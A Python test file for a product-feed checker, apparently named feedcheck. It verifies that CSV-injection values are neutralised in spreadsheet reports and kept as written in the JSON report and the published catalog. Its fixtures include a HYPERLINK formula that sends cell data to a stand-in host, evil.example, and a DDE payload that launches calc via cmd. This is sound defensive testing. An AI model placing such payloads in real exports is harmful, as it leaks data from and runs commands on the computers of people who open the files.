"""Formula-like values (CSV injection) through the CLI and the flows: the spreadsheet reports neutralise them,
the machine-readable report and the published catalog keep them as written.

A value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a line break
runs as a formula when a person opens ``findings.csv`` or ``mismatches.csv``
in a spreadsheet.  Those files prefix it with ``'``; ``report.json`` and the
catalog are read by programs and platforms, which need the value itself.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from feedcheck.cli import main
from feedcheck.reports.write import FORMULA_START

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
HEADER = ("sku_id,title,description,availability,condition,price,link,image_link,brand\n")


def _inputs(folder: Path) -> tuple[Path, Path]:
    """A feed whose values look like formulas (one item also fails a rule), and an event log that names an id
    the catalog does not hold, written as a formula."""
    rows = [
        ["A-1", HYPERLINK, DDE, "in stock", "new", "10.00 USD", "https://shop.example/1", "https://cdn.example/1.jpg",
         "@SUM(1+1)"],
        ["A-2", "Plain tee", "Cotton.", "in stock", "new", "=1+1", "https://shop.example/2",
         "https://cdn.example/2.jpg", "Northwind"],
        ["A-3", "\tTabbed", "Cotton.", "in stock", "new", "12.00 USD", "https://shop.example/3",
         "https://cdn.example/3.jpg", "-2+3"],
    ]
    feed = folder / "feed.csv"
    with feed.open("w", newline="", encoding="utf-8") as out:
        out.write(HEADER)
        csv.writer(out, lineterminator="\n").writerows(rows)
    events = folder / "events.jsonl"
    events.write_text("\n".join(json.dumps({
        "event": "Purchase", "event_id": f"order-{n}", "timestamp": "2026-11-24T09:00:00Z",
        "properties": {"contents": [{"content_id": cid, "quantity": 1, "price": 10.0}], "value": 10.0,
                       "currency": "USD"}}) for n, cid in enumerate(["A-1", HYPERLINK])) + "\n")
    return feed, events


def _spreadsheet_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _neutralised_and_kept(out: Path) -> None:
    cells = _spreadsheet_cells(out / "findings.csv") + _spreadsheet_cells(out / "mismatches.csv")
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert "'=1+1" in cells and "'" + HYPERLINK in cells
    report = json.loads((out / "report.json").read_text())
    assert HYPERLINK in [m["content_id"] for m in report["events"]["top_unmatched"]]
    with (out / "catalog.csv").open(encoding="utf-8-sig", newline="") as f:
        published = {row["sku_id"]: row for row in csv.DictReader(f)}
    assert published["A-1"]["title"] == HYPERLINK and published["A-1"]["description"] == DDE
    assert published["A-1"]["brand"] == "@SUM(1+1)" and published["A-3"]["brand"] == "-2+3"
    assert report["findings"]["by_code"]["publish.formula_value"]["count"] >= 4


def test_the_cli_neutralises_formulas_in_spreadsheets_only(tmp_path: Path) -> None:
    feed, events = _inputs(tmp_path)
    out = tmp_path / "out"
    assert main(["check", str(feed), "--out", str(out), "--events", str(events)]) == 1
    _neutralised_and_kept(out)


@pytest.mark.usefixtures("prefect_api")
def test_the_flows_neutralise_formulas_in_spreadsheets_only(tmp_path: Path) -> None:
    from feedcheck.flows import check_one_feed

    feed, events = _inputs(tmp_path)
    config = tmp_path / "feeds.toml"
    config.write_text(f'[[feed]]\nname = "formulas"\nsource = "{feed}"\nchannel = "tiktok"\nevents = ["{events}"]\n'
                      f'out = "{tmp_path / "out"}"\n')
    state = check_one_feed("formulas", str(config), return_state=True)
    assert state.result()["exit_code"] == 1, state.message
    _neutralised_and_kept(tmp_path / "out")
